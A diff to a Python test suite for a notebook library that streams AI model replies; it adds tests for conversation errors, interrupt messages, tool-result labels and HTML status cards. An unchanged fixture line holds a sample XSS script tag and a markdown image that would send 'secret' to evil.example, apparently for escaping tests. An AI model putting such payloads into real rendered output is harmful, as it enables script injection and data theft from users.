@@ -21,6 +21,7 @@ from bedrock_nb.errors import IncompleteStreamError, RequestError
 from bedrock_nb.events import MessageStart, TextDelta
 from bedrock_nb.recording import Recording
 from bedrock_nb.server import INSTANT, BedrockServer, faults
+from tests.chatting import said, use
 
 HOSTILE = "Look: <script>alert(1)</script> ![x](https://evil.example/?q=secret) **bold**"
 
@@ -189,6 +190,14 @@ def test_a_script_prints_as_it_comes(endpoint):
     assert out.endswith("complete\n")
 
 
+@pytest.mark.parametrize("kind", ["conversation", "message"])
+def test_a_conversation_is_shown_turn_by_turn(service, kind):
+    """Who gives the whole conversation, or an answer, is told what to give."""
+    chat = service.chat()
+    with pytest.raises(RequestError, match=r"Write nb\.live\(chat\.stream\('…'\)\)"):
+        nb.live(chat if kind == "conversation" else chat.send("Hello"))
+
+
 @pytest.mark.parametrize("wrong", ["text", None, {"stream": []}], ids=json.dumps)
 def test_something_else_than_a_reply_is_refused(wrong):
     """The error says what to write instead."""
@@ -220,6 +229,48 @@ def test_an_interrupt_says_where_the_reply_is():
     assert "bedrock_nb.recordings[-1]" in caught.value.__notes__[0]
     assert nb.recordings[-1] is reply.recording
     assert reply.status == "cancelled"
+
+
+def test_an_interrupt_of_a_turn_says_how_to_go_on():
+    """What came of it is in the conversation."""
+    with BedrockServer(faults=[faults.stall(after=5)], latency=INSTANT) as server:
+        chat = nb.Conversation(server.client())
+        turn = chat.stream("Count from 1 to 20")
+        threading.Timer(0.3, os.kill, [os.getpid(), signal.SIGINT]).start()
+        with contextlib.redirect_stdout(io.StringIO()), pytest.raises(KeyboardInterrupt) as caught:
+            nb.live(turn)
+    assert caught.value.__notes__ == [
+        "What came is in the conversation: rerun() asks again, stream('…') goes on from there."
+    ]
+    assert turn.status == "cancelled"
+
+
+def test_results_in_a_terminal_name_their_tool(service):
+    """The result of a call is told as that of its tool."""
+
+    @nb.tool
+    def weather(city: str) -> str:
+        """Look out of the window."""
+        return f"sun in {city}"
+
+    chat = service.chat(said(use("weather", {"city": "Rome"})), "Sunny.", tools=[weather])
+    out = io.StringIO()
+    with contextlib.redirect_stdout(out):
+        nb.live(chat.stream("Weather?"))
+    assert "[Result of weather]\nsun in Rome\n" in out.getvalue()
+
+
+def test_the_card_of_a_turn_says_what_to_do_with_it(service):
+    """While it streams, how it is shown and read; there is no row without a value."""
+    turn = service.chat().stream("Hello")
+    card = turn._repr_html_()
+    assert "streaming: nb.live(turn) shows it, turn.drain() reads it" in card
+    assert "tool calls" not in card
+    assert "output tokens" not in card
+    card = turn.drain()._repr_html_()
+    assert "complete, end_turn" in card
+    assert "output tokens" in card
+    assert "drain" not in card
 
 
 def test_halves_that_come_in_two_deltas_are_printed_as_one():
